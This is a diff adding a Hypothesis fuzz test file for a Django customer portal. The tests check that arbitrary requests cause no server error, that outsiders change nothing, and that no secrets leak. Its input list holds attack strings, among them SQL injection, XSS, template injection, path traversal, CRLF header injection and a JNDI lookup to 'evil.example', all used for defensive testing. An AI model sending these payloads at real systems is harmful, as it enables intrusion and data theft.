@@ -1,0 +1,151 @@
+"""Whatever comes in: no fault of ours, no effect for a stranger, and nobody's secrets in any answer."""
+
+import json
+from typing import Any
+from urllib.parse import urlencode
+
+import pytest
+from django.conf import settings as portal
+from django.db import transaction
+from django.test.client import BOUNDARY, MULTIPART_CONTENT, encode_multipart
+from hypothesis import HealthCheck, assume, given, settings
+from hypothesis import strategies as st
+
+from tests import footprint
+from tests.everything import World, address, flaws
+from tests.routes import METHODS, ROLES, ROUTES
+
+pytestmark = pytest.mark.django_db
+OPEN_TO_STRANGERS = ("take", "done", "report", "company_integration", "consent_begin", "token")
+"""By a link, a key or a pair; and anybody may begin a consent, which is a row."""
+ADDRESSES = sorted(row for row in ROUTES if not row.startswith("admin") or "_order" in row or "_user" in row)
+NAUGHTY = [
+    "", "..", "../../partner/configuration", "%2e%2e", "%00", "\0", "\r\nSet-Cookie: x=1", "'", "' OR 1=1--", "{{7*7}}",
+    '"><svg onload=alert(1)>', "${jndi:ldap://evil.example}", "%n%s", "\ud800", "\u202e", "é", "\U0001f600", "null",
+    "-1", "0", "1e999", "NaN", "9" * 30, "x" * 5000, "https://evil.example", "//evil.example", "[]", "{}", "__proto__",
+    ";", "a=b", "*/*", "text/html", "application/json; charset=klingon", "multipart/form-data; boundary=x", "gzip",
+    "iframe", "application/x-www-form-urlencoded", "Basic eDp5", "Bearer x", "Bearer " + "x" * 300, "bytes=0-5",
+]  # fmt: skip
+TEXT = st.sampled_from(NAUGHTY) | st.text(max_size=20)
+NAMES = [
+    "ACCEPT", "ACCEPT_ENCODING", "ACCEPT_LANGUAGE", "AUTHORIZATION", "CONTENT_ENCODING", "COOKIE", "FORWARDED", "HOST",
+    "IDEMPOTENCY_KEY", "IF_MODIFIED_SINCE", "IF_NONE_MATCH", "ORIGIN", "RANGE", "REFERER", "REQUESTER", "X_CSRFTOKEN",
+    "SEC_FETCH_DEST", "USER_AGENT", "X_FORWARDED_FOR", "X_FORWARDED_HOST", "X_FORWARDED_PROTO", "X_REQUEST_ID",
+    "X_HTTP_METHOD_OVERRIDE",
+]  # fmt: skip
+JSON = st.recursive(
+    st.none() | st.booleans() | st.integers(-(2**70), 2**70) | st.floats() | TEXT,
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXT, inner, max_size=3),
+    max_leaves=6,
+)
+
+
+def printed(text: str) -> str:
+    """Without halves of surrogate pairs, which no UTF-8 can say."""
+    return text.encode("utf-8", "replace").decode()
+
+
+BODIES = (
+    st.tuples(st.binary(max_size=60), TEXT)
+    | st.tuples(JSON.map(lambda value: json.dumps(value).encode("utf-8", "surrogatepass")), st.just("application/json"))
+    | st.tuples(
+        st.dictionaries(TEXT, TEXT, max_size=3).map(lambda sent: urlencode(sent, errors="replace").encode()),
+        st.just("application/x-www-form-urlencoded"),
+    )
+    | st.dictionaries(st.sampled_from(["file", "name", "assessment_id", "login"]), TEXT, max_size=3).map(
+        lambda sent: (
+            encode_multipart(BOUNDARY, {name: printed(text) for name, text in sent.items()}),
+            MULTIPART_CONTENT,
+        )
+    )
+)
+
+
+def wire(text: str) -> str:
+    """As a WSGI server hands it on: bytes as Latin-1, without what no server lets through."""
+    sent = text.encode("utf-8", "replace").decode("latin-1")
+    return sent.replace("\0", "").replace("\r", "").replace("\n", "")
+
+
+def odd(url: str, pieces: list[str]) -> str:
+    """The address with its last parts exchanged, or with more behind it."""
+    path = url.partition("?")[0]
+    if pieces and len(pieces) % 2:
+        path = "/".join([*path.rstrip("/").split("/")[:-1], pieces[0]])
+    return path + "".join(f"/{piece}" for piece in pieces[1:])
+
+
+def headers_of(world: World, role: str, headers: dict[str, str]) -> dict[str, str]:
+    """Who has a token keeps it."""
+    return {
+        f"HTTP_{name}": text for name, text in headers.items() if name != "AUTHORIZATION" or role not in world.tokens
+    }
+
+
+ANYTHING = {
+    "place": st.tuples(st.sampled_from(ADDRESSES), st.lists(TEXT, max_size=2)),
+    "method": st.sampled_from([*METHODS, "OPTIONS", "TRACE", "PROPFIND", "get", "BREW"]),
+    "query": st.dictionaries(TEXT, TEXT, max_size=3).map(lambda sent: urlencode(sent, errors="replace"))
+    | TEXT.map(wire),
+    "headers": st.dictionaries(st.sampled_from(NAMES), TEXT.map(wire), max_size=3),
+    "sent": BODIES,
+}
+Place = tuple[str, list[str]]
+Sent = tuple[bytes, str]
+QUICKLY = settings(
+    max_examples=250,
+    deadline=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
+)
+
+
+def ask(world: World, role: str, place: Place, method: str, query: str, headers: dict[str, str], sent: Sent) -> Any:
+    path = odd(address(world, place[0]), place[1]).encode("utf-8", "replace").decode("latin-1")
+    more = headers_of(world, role, headers) | {"PATH_INFO": path, "QUERY_STRING": query}
+    answer = world.ask(role, method, "/", sent[0], wire(sent[1]) or "x", **more)
+    assert flaws(answer, path) == [], (answer.status_code, answer.content[:300])
+    return answer
+
+
+@QUICKLY
+@given(role=st.sampled_from(ROLES), **ANYTHING)
+def test_nothing_that_comes_in_is_a_fault_of_ours(
+    world: World, role: str, place: Place, method: str, query: str, headers: dict[str, str], sent: Sent
+) -> None:
+    with transaction.atomic():
+        ask(world, role, place, method, query, headers, sent)
+        transaction.set_rollback(True)
+
+
+@QUICKLY
+@given(role=st.sampled_from(["stranger", "charlie", "others"]), **ANYTHING)
+def test_stranger_changes_nothing_and_learns_nothing(
+    world: World, role: str, place: Place, method: str, query: str, headers: dict[str, str], sent: Sent
+) -> None:
+    """Nor does another customer learn anything of Northwind's."""
+    assume("guessed" in place[0] or place[0].partition(",")[0] not in OPEN_TO_STRANGERS)
+    with transaction.atomic():
+        before = footprint.of_database()
+        answer = ask(world, role, place, method, query, headers, sent)
+        after = footprint.of_database() if role == "stranger" else before
+        transaction.set_rollback(True)
+    assert after == before
+    said = answer.content.decode("utf-8", "replace") + str(answer.headers)
+    assert [secret for secret in secrets_of(world) if secret in said] == []
+
+
+def secrets_of(world: World) -> list[str]:
+    return [
+        *world.tokens.values(),
+        world.pair["client_secret"],
+        world.connection.their_client_secret,
+        world.order.link_token,
+        world.report.link_token,
+        world.configuration.disable_key,
+        world.webhook.secret,
+        world.users["alice"].password,
+        portal.SECRET_KEY,
+        *portal.ENCRYPTION_KEYS,
+        "lovelace",
+        "Lovelace",
+    ]
